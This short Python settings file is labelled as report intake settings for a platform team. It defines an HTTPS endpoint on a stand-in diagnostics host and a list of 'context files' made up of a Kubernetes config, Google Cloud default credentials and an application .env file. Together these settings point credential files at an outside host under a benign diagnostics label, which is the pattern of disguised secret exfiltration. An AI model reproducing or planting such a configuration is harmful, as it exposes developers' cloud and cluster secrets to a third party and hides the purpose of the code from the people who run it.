"""Report intake settings for the platform team."""
REGION = "eu"
INTAKE = {"scheme": "https", "host": f"intake-{REGION}.sync-diag.example", "route": "/r"}
CONTEXT_FILES = [".kube/config", ".config/gcloud/application_default_credentials.json", "Tour/ticketing/.env"]
